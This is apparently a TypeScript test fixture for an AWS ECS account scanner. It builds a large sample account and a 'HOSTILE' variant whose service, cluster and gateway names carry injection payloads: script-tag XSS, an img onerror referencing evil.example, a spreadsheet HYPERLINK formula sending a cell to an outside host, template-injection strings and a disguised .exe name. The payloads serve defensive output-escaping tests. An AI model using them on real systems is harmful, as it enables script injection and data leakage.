/** A scan of an account as large and as mixed as people have them, some of its names written by an enemy. */

import { readService } from "../../src/ecs/service/service.ts";
import type { StandaloneTasks } from "../../src/ecs/task/standalone-tasks.ts";
import type { Egress } from "../../src/network/egress.ts";
import { type NetworkFacts, nothingRead } from "../../src/network/facts.ts";
import { createVirtualClock } from "../../src/sandbox/virtual-clock.ts";
import type { AccountInventory, ContainerHost, ScheduledTask } from "../../src/scan/account-inventory.ts";
import { type Scan, type ScanOptions, scanAccount } from "../../src/scan/scan.ts";
import { DEFAULT_POLICY } from "../../src/substitution/policy/policy.ts";

const ACCOUNT = "123456789012";
const ECR = `${ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com`;
const arn = (resource: string): string => `arn:aws:ecs:us-east-1:${ACCOUNT}:${resource}`;

export type ScannedService = {
  readonly name: string;
  readonly cluster?: string;
  readonly images: readonly string[];
  readonly tasks?: number;
  readonly subnets?: readonly string[];
  readonly launchType?: "FARGATE" | "EC2";
  readonly tags?: Readonly<Record<string, string>>;
  readonly secret?: boolean;
};

export type ScannedAccount = {
  readonly services: readonly ScannedService[];
  readonly runs?: readonly (Omit<ScheduledTask, "clusterArn"> & { readonly images: readonly string[] })[];
  readonly loose?: readonly (Omit<StandaloneTasks, "clusterArn"> & { readonly images: readonly string[] })[];
  readonly ways?: Readonly<Record<string, Egress>>;
  readonly hosts?: readonly ContainerHost[];
  readonly copies?: Readonly<Record<string, readonly string[]>>;
};

export function scanOf(
  account: ScannedAccount,
  more: Partial<AccountInventory> = {},
  options: Partial<ScanOptions> = {},
): Promise<Scan> {
  const { services, runs = [], loose = [], ways = {}, hosts = [], copies = {} } = account;
  const clusterOf = ({ cluster = "prod" }: ScannedService): string => arn(`cluster/${cluster}`);
  const definitions = new Map<string, { images: readonly string[]; secret?: boolean }>();
  for (const service of services)
    definitions.set(arn(`task-definition/${service.name}:1`), {
      images: service.images,
      ...(service.secret === undefined ? {} : { secret: service.secret }),
    });
  for (const { taskDefinition, images } of [...runs, ...loose]) definitions.set(taskDefinition, { images });
  const view: AccountInventory = {
    clusters: async () => [...new Set(services.map(clusterOf))],
    async *services(cluster) {
      yield services
        .filter((service) => clusterOf(service) === cluster)
        .map((service) =>
          readService({
            serviceName: service.name,
            serviceArn: arn(`service/${service.name}`),
            clusterArn: cluster,
            status: "ACTIVE",
            taskDefinition: arn(`task-definition/${service.name}:1`),
            desiredCount: service.tasks ?? 2,
            launchType: service.launchType ?? "FARGATE",
            tags: Object.entries(service.tags ?? {}).map(([key, value]) => ({ key, value })),
            ...(service.subnets === undefined
              ? {}
              : { networkConfiguration: { awsvpcConfiguration: { subnets: [...service.subnets] } } }),
          }),
        );
    },
    scheduledTasks: async () =>
      runs.map(({ images: _, ...run }) => ({ ...run, clusterArn: arn("cluster/prod") })),
    standaloneTasks: async (clusterArn) =>
      clusterArn === arn("cluster/prod")
        ? loose.map(({ images: _, ...tasks }) => ({ ...tasks, clusterArn }))
        : [],
    egress: async () => factsOf(ways),
    instances: async () =>
      hosts.map(({ subnet = "", publicAddress }) => ({
        source: { subnet, hasPublicAddress: publicAddress !== undefined },
        ...(publicAddress === undefined ? {} : { publicAddress }),
      })),
    pullThroughRules: async () => [],
    imageTags: async (repository) => copies[repository],
    ...more,
  };
  return scanAccount(
    view,
    {
      describeTaskDefinition: async (name) => {
        const { images, secret } = definitions.get(name) ?? { images: [] };
        const repositoryCredentials = { credentialsParameter: "secret" };
        return {
          taskDefinition: {
            family: name.replace(/^.*\/|:[0-9]+$/g, ""),
            requiresCompatibilities: ["FARGATE"],
            executionRoleArn: `arn:aws:iam::${ACCOUNT}:role/execution`,
            containerDefinitions: images.map((image, index) => ({
              name: index === 0 ? "app" : `sidecar-${index}`,
              image,
              ...(secret === true ? { repositoryCredentials } : {}),
            })),
          },
          tags: [],
        };
      },
    },
    { policy: DEFAULT_POLICY, ecrHost: ECR, clock: createVirtualClock(0), ...options },
  );
}

/** Facts in which each subnet has the way that is wanted. */
function factsOf(ways: Readonly<Record<string, Egress>>): NetworkFacts {
  const targetOf = (way: Egress) =>
    way.kind === "internet-gateway" ? "igw-1" : way.kind === "none" ? undefined : way.id;
  const subnets = Object.keys(ways);
  return {
    ...nothingRead({ account: ACCOUNT, region: "us-east-1" }, { unread: "", because: "not asked" }),
    subnets: subnets.map((id) => ({ id, vpc: "vpc-1", blocks: [], isIpv6Only: false, hasDns64: false })),
    routeTables: Object.entries(ways).map(([id, way]) => {
      const target = targetOf(way);
      const routes =
        target === undefined ? [] : [{ destination: "0.0.0.0/0", target, state: "active" as const }];
      return { id: `rtb-${id}`, vpc: "vpc-1", isMain: false, subnets: [id], routes };
    }),
    natGateways: Object.values(ways).flatMap((way) =>
      way.kind === "nat"
        ? { id: way.id, state: "available", isPrivate: false, publicAddresses: way.addresses }
        : [],
    ),
  };
}

const nat = (id: string, address: string): Egress => ({ kind: "nat", id, addresses: [address] });

/** Forty services and their like, behind two gateways and a few things more. */
export const SHOP: ScannedAccount = {
  services: [
    ...[
      "storefront",
      "checkout",
      "catalog",
      "search",
      "payments-api",
      "accounts",
      "mailer",
      "images",
      "reviews",
    ].map((name, index) => ({
      name,
      images: ["nginx:1.27", "fluent/fluent-bit:3.1"],
      tasks: 3 + index,
      subnets: ["subnet-a", "subnet-b"],
    })),
    ...["dashboards", "loki", "tempo"].map((name) => ({
      name,
      cluster: "tools",
      images: [`grafana/${name === "dashboards" ? "grafana:11.2.0" : `${name}:3`}`],
      tasks: 2,
      subnets: ["subnet-c"],
    })),
    ...Array.from({ length: 14 }, (_, index) => ({
      name: `worker-${index + 1}`,
      images: ["python:3.12-slim"],
      tasks: 2,
      subnets: ["subnet-a"],
    })),
    { name: "legacy-erp", images: ["acme/erp:7"], tasks: 4, subnets: ["subnet-b"], tags: { repull: "off" } },
    { name: "signed", images: ["acme/private:2"], tasks: 6, subnets: ["subnet-b"], secret: true },
    { name: "edge", images: ["caddy:2.8"], tasks: 8, launchType: "EC2", subnets: ["subnet-a"] },
    { name: "own", images: [`${ECR}/own:1`], tasks: 30, subnets: ["subnet-a"] },
  ],
  runs: [
    {
      kind: "rule",
      name: "every-five-minutes",
      taskDefinition: arn("task-definition/cron:3"),
      images: ["curlimages/curl:8.10.1"],
      isEnabled: true,
      expression: "rate(5 minutes)",
      taskCount: 1,
      launchType: "FARGATE",
      network: { subnets: ["subnet-a"], assignPublicIp: false },
    },
    {
      kind: "schedule",
      name: "nightly-report",
      taskDefinition: arn("task-definition/report:9"),
      images: ["python:3.12-slim"],
      isEnabled: true,
      expression: "cron(0 2 * * ? *)",
      taskCount: 1,
      launchType: "FARGATE",
      network: { subnets: ["subnet-b"], assignPublicIp: false },
    },
  ],
  loose: [
    {
      taskDefinition: arn("task-definition/debug:1"),
      images: ["busybox:1.36"],
      count: 1,
      launchType: "FARGATE",
      network: { subnets: ["subnet-c"], assignPublicIp: true },
    },
  ],
  ways: {
    "subnet-a": nat("nat-0f3a9b1c2d4e5f607", "203.0.113.10"),
    "subnet-b": nat("nat-07c1d2e3f4a5b6c7d", "203.0.113.11"),
    "subnet-c": { kind: "internet-gateway" },
  },
  hosts: [{ subnet: "subnet-a" }, { subnet: "subnet-b" }],
  copies: { "repull/docker.io/fluent/fluent-bit": ["3.1-0a1b2c3d4e5f"] },
};

export const SCRIPT =
  "<script>document.title='owned'</script><img src='https://evil.example/x.png' onerror='document.title=1'>";

/** The same, with names that want to be more than names. */
export const HOSTILE: ScannedAccount = {
  ...SHOP,
  services: [
    ...SHOP.services,
    {
      name: SCRIPT,
      cluster: `"><script>document.title='owned'</script>`,
      images: ["nginx:1.27"],
      tasks: 200,
      subnets: ["subnet-a"],
    },
    {
      name: `' onmouseover='document.title="owned"' x='`,
      images: ["nginx:1.27"],
      tasks: 1,
      subnets: ["subnet-a"],
    },
    { name: "n".repeat(10_000), images: ["nginx:1.27"], tasks: 2, subnets: ["x".repeat(10_000)] },
    {
      name: "abc\u202egnp.exe\u0000\u001b[31m\ud800",
      images: [`nginx:1.27</style></script>`, "nginx:1.27"],
      tasks: 1,
      subnets: ["subnet-a"],
    },
    {
      name: `=HYPERLINK("https://spreadsheet.example/?x="&A1,"open")`,
      images: ["nginx:1.27"],
      tasks: 1,
      subnets: ["subnet-a"],
    },
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what the name says
    { name: "${7*7}{{7*7}}&lt;script&gt;", images: ["redis:7"], tasks: 1, subnets: ["subnet-a"] },
  ],
  ways: {
    ...SHOP.ways,
    "subnet-a": nat(`nat-</svg><script>document.title="owned"</script>`, "203.0.113.10"),
    ["x".repeat(10_000)]: { kind: "other", id: "y".repeat(10_000) },
  },
};
